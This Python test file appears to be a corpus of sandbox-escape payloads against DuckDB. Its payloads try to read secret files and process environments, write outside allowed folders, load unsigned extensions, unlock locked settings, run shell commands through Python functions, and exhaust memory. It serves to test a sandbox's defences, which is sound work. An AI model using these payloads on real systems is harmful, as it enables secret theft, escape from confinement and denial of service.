"""DuckDB: files, attached databases, extensions, settings, network and native code."""

from tests.escapes.corpus import TRY, Payload

SQL = TRY + r"""
import duckdb, os
tmp = os.environ["HOME"] = os.environ.get("TMPDIR", "/tmp")
def ask(query, connection=None):
    attempt(query[:60], lambda: ((connection or duckdb).sql(query) or duckdb.sql("select 'done'")).fetchall())
def fresh(**config):
    return attempt("connect", duckdb.connect, ":memory:", config=config)
"""

PAYLOADS: list[Payload] = [
    Payload("duckdb", "read_text, read_blob and glob", (SQL, r"""
ask("select content from read_text('{{SECRET}}')")
ask("select content from read_blob('/proc/{{PID}}/environ')")
ask("select * from glob('{{TARGETDIR}}/*')")
ask("select content from read_text('/proc/*/environ')")
ask("select filename, content from read_text('{{SECRET}}*')")
ask("from '{{SECRET}}'")
""")),
    Payload("duckdb", "csv, json and parquet readers", (SQL, r"""
for function in ("read_csv_auto", "read_csv", "read_json_auto", "read_ndjson_objects", "read_json_objects", "read_parquet",
                 "sniff_csv", "parquet_metadata", "read_xlsx", "st_read", "iceberg_scan", "delta_scan", "sqlite_scan"):
    ask(f"select * from {function}('{{SECRET}}')")
ask("select * from read_csv('{{SECRET}}', header=false, columns={'a': 'varchar'}, delim='', quote='', ignore_errors=true)")
ask("select * from read_csv(['{{SECRET}}', 'data.csv'], union_by_name=true, filename=true)")
ask("from read_csv('{{SECRET}}', header=false, all_varchar=true)")
""")),
    Payload("duckdb", "COPY out in every format", (SQL, r"""
for form in ("csv", "json", "parquet", "arrow", "xlsx"):
    ask(f"copy (select 'owned' a) to '{{TARGETDIR}}/owned.{form}' (format {form})")
ask("copy (select 'owned') to '{{TARGET}}' (header false)")
ask("copy (select 1 a, 2 b) to '{{TARGETDIR}}/parts' (partition_by (a), overwrite_or_ignore true)")
ask("copy (select 'owned' x) to '{{TARGETDIR}}' (per_thread_output true)")
ask("export database '{{TARGETDIR}}/dump'")
ask("copy from database memory to nowhere")
""")),
    Payload("duckdb", "COPY and IMPORT in", (SQL, r"""
ask("create or replace table t(x varchar)")
ask("copy t from '{{SECRET}}' (header false, delim '\1')")
ask("from t")
os.makedirs(tmp + "/dump", exist_ok=True)
open(tmp + "/dump/schema.sql", "w").write("create table s as select content from read_text('{{SECRET}}');")
open(tmp + "/dump/load.sql", "w").write("copy (select 1) to '{{TARGET}}';")
ask(f"import database '{tmp}/dump'")
ask("from s")
""")),
    Payload("duckdb", "ATTACH of files outside", (SQL, r"""
ask("attach '{{TARGETDIR}}/owned.db' as o; create table o.t as select 1; checkpoint o; detach o")
ask("attach '{{TARGET}}' as x")
ask("attach '{{SECRET}}' as y (read_only)")
ask("attach 'sqlite:{{TARGETDIR}}/owned.sqlite' as z (type sqlite)")
ask("attach 'host=127.0.0.1 port={{PORT}} dbname=x' as p (type postgres)")
ask("attach 'http://127.0.0.1:{{PORT}}/x.db' as h")
attempt("connect", lambda: duckdb.connect("{{TARGETDIR}}/owned2.db").sql("create table t as select 1"))
attempt("read", lambda: duckdb.connect("{{SECRET}}", read_only=True).sql("show tables"))
""")),
    Payload("duckdb", "INSTALL and LOAD of extensions", (SQL, r"""
c = fresh(allow_unsigned_extensions="true", extension_directory=tmp + "/ext") or duckdb
for name in ("httpfs", "sqlite", "postgres", "mysql", "spatial", "excel", "aws"):
    ask(f"load {name}", c)
ask("install httpfs from 'http://127.0.0.1:{{PORT}}'", c)
ask("set custom_extension_repository='http://127.0.0.1:{{PORT}}'; install spatial", c)
ask("force install x from '{{TARGETDIR}}'", c)
ask("set extension_directory='{{TARGETDIR}}/owned'; install httpfs from '{{SECRET}}'", c)
open(tmp + "/x.duckdb_extension", "wb").write(b"\x7fELF" + bytes(600))
ask(f"load '{tmp}/x.duckdb_extension'", c)
ask("load '{{SECRET}}'", c)
attempt("python", lambda: duckdb.install_extension("x", repository_url="http://127.0.0.1:{{PORT}}"))
""")),
    Payload("duckdb", "httpfs, S3, Azure and hf addresses", (SQL, r"""
c = fresh(extension_directory=tmp + "/ext", autoinstall_known_extensions="false") or duckdb
ask("create secret (type s3, endpoint '127.0.0.1:{{PORT}}', use_ssl false, key_id 'k', secret 's')", c)
for address in ("http://127.0.0.1:{{PORT}}/x.csv", "s3://b/x.csv", "gcs://b/x.csv", "r2://b/x.csv", "az://b/x.csv",
                "hf://datasets/a/b.csv",
                "file:///{{SECRET}}", "file:{{SECRET}}"):
    ask(f"from read_csv('{address}')", c)
ask("set http_proxy='127.0.0.1:{{PORT}}'; from read_csv('http://localhost/x.csv')", c)
ask("select http_get('http://127.0.0.1:{{PORT}}/')", c)
""")),
    Payload("duckdb", "locked settings turned back", (SQL, r"""
for setting in ("enable_external_access=true", "lock_configuration=false", "allowed_directories=['/']",
                "allowed_paths=['{{SECRET}}']",
                "disabled_filesystems=''", "allow_unsigned_extensions=true", "allow_community_extensions=true",
                "home_directory='/'",
                "file_search_path='/'", "temp_directory='{{TARGETDIR}}/owned'", "secret_directory='{{TARGETDIR}}/owned'",
                "log_query_path='{{TARGETDIR}}/owned.log'", "profile_output='{{TARGETDIR}}/owned.json'",
                "enable_profiling='json'"):
    ask("set " + setting); ask("reset " + setting.split("=")[0]); ask("set global " + setting); ask("pragma " + setting)
ask("select content from read_text('{{SECRET}}')")
ask("select count(*) from range(1000)")
""")),
    Payload("duckdb", "a second connection of its own", (SQL, r"""
for config in ({}, {"enable_external_access": "true"}, {"enable_external_access": "true", "lock_configuration": "false"},
               {"allowed_paths": ["{{SECRET}}"]}, {"access_mode": "READ_WRITE"}):
    c = fresh(**config)
    if c:
        ask("select content from read_text('{{SECRET}}')", c)
        ask("copy (select 'owned') to '{{TARGET}}'", c)
attempt("cursor", lambda: duckdb.connect().cursor().execute("select content from read_text('{{SECRET}}')").fetchall())
attempt("named", lambda: duckdb.connect(":default:").execute("select content from read_text('{{SECRET}}')").fetchall())
attempt("raw",
        lambda: __import__("_duckdb").connect(":memory:").execute("select content from read_text('{{SECRET}}')").fetchall())
""")),
    Payload("duckdb", "spilling to a folder outside", (SQL, r"""
c = fresh(memory_limit="60MB", temp_directory="{{TARGETDIR}}/spill", threads="1") or duckdb
ask("select count(*) from (select range, hash(range)::varchar || repeat('x', 50) h from range(2000000) order by h)", c)
attempt("spilled", lambda: broke(os.listdir("{{TARGETDIR}}/spill")))
ask("set temp_directory='{{TARGETDIR}}/spill2'; select count(distinct hash(range)::varchar) from range(2000000)", c)
""")),
    Payload("duckdb", "Python functions called from SQL", (SQL, r"""
def leak(path: str) -> str:
    return open(path).read()
def run(command: str) -> int:
    return os.system(command)
c = fresh() or duckdb
attempt("create", lambda: c.create_function("leak", leak))
attempt("create", lambda: c.create_function("run", run))
ask("select leak('{{SECRET}}'), leak('/proc/{{PID}}/environ')", c)
ask("select run('echo owned >> {{TARGET}}; kill -9 {{PID}}')", c)
""")),
    Payload("duckdb", "replacement scans see the caller's variables", (SQL, r"""
def hidden():
    return duckdb.sql("select * from frame")
import pandas, sys
frame = pandas.DataFrame({"a": [open("{{SECRET}}").read() if os.path.exists("{{SECRET}}") else "none"]})
attempt("scan", lambda: hidden().fetchall())
for name in list(globals()) + ["buffer", "table", "rows", "payload", "message", "request", "result", "cells", "data"]:
    try:
        print(name, duckdb.sql(f'select * from "{name}"').fetchall()[:3])
    except Exception:
        pass
""")),
    Payload("duckdb", "getenv, variables and logs", (SQL, r"""
ask("select getenv('AGENTFORGE_CANARY')")
ask("select current_setting('home_directory'), current_setting('secret_directory')")
ask("from duckdb_settings()")
ask("from duckdb_secrets()")
ask("from duckdb_databases()")
ask("from duckdb_logs()")
ask("call enable_logging(storage='file', storage_path='{{TARGETDIR}}/owned')")
ask("create persistent secret x (type http, bearer_token 'x')")
ask("select getvariable('x'), current_user, version()")
""")),
    Payload("duckdb", "fsspec file systems registered", (SQL, r"""
class Files:
    protocol = "mine"
    def open(self, path, *a, **k): return open("{{SECRET}}", "rb")
    def ls(self, *a, **k): return ["mine://x"]
    glob = find = ls
    def exists(self, path): return True
attempt("register", lambda: duckdb.register_filesystem(Files()))
attempt("fsspec", lambda: duckdb.register_filesystem(__import__("fsspec").filesystem("file")))
attempt("memory", lambda: duckdb.filesystem_is_registered("mine"))
ask("from read_csv('mine://x', header=false)")
ask("from read_csv('file://{{SECRET}}', header=false)")
""")),
    Payload("duckdb", "links and devices as tables", (SQL, r"""
attempt("link", os.symlink, "{{SECRET}}", tmp + "/inside.csv")
attempt("folder", os.symlink, "{{TARGETDIR}}", tmp + "/out")
ask(f"from read_csv('{tmp}/inside.csv', header=false)")
ask(f"copy (select 'owned') to '{tmp}/out/owned.csv'")
ask(f"copy (select 'owned') to '{tmp}/../../../../..{{TARGET}}'")
ask("copy (select 'owned') to '/proc/self/fd/1'")
ask("select content from read_text('/proc/self/root{{SECRET}}')")
ask("from read_csv('/dev/stdin')")
""")),
    Payload("duckdb", "statements hidden in parameters and comments", (SQL, r"""
attempt("execute", lambda: duckdb.execute("select ?; copy (select 'owned') to '{{TARGET}}'", [1]))
attempt("prepare", lambda: (duckdb.execute("prepare p as select content from read_text($1)"),
                            duckdb.execute("execute p('{{SECRET}}')").fetchall()))
ask("select * from query('select content from read_text(''{{SECRET}}'')')")
ask("select * from query_table('{{SECRET}}')")
ask("create macro m(p) as table select content from read_text(p); from m('{{SECRET}}')")
ask("/* x */ select content from -- y\n read_text(e'\\x2f' || substr('{{SECRET}}', 2))")
ask("select * from json_execute_serialized_sql(json_serialize_sql('select content from read_text(''{{SECRET}}'')'))")
ask("create view v as select content from read_text('{{SECRET}}'); from v")
""")),
    Payload("duckdb", "memory and time bombs in SQL", (SQL, r"""
c = fresh(memory_limit="60GB", threads="64", temp_directory="") or duckdb
ask("select sum(a.range * b.range) from range(10000000) a, range(100000) b where hash(a.range) % 3 = hash(b.range) % 3", c)
""", r"""
ask("select length(string_agg(repeat('x', 1000000), '')) from range(100000)", c)
""", "print('alive')")),
    Payload("duckdb", "recursion, deep queries and huge results", (SQL, r"""
ask("with recursive r(n) as (select 1 union all select n + 1 from r where n < 100000000) select count(*) from r")
""", r"""
ask("select " + "(" * 20000 + "1" + ")" * 20000)
ask("select " + " + ".join(["1"] * 100000))
""", r"""
duckdb.sql("select range, repeat('x', 1000) from range(3000000)").df()
""", "print('alive')")),
    Payload("duckdb", "the host's other databases", (SQL, r"""
import glob
for pattern in ("/tmp/*/*.duckdb", "/home/*/.duckdb/*", "/root/.duckdb/*", "/tmp/*.db", "/proc/*/fd/*", "/run/*", "/dev/shm/*"):
    attempt(pattern, lambda: list(__import__("itertools").islice(glob.iglob(pattern, recursive=True), 50)))
    ask(f"select file from glob('{pattern}') limit 50")
attempt("process", lambda: [os.readlink(f"/proc/{{PID}}/fd/{n}") for n in range(5)])
""")),
]
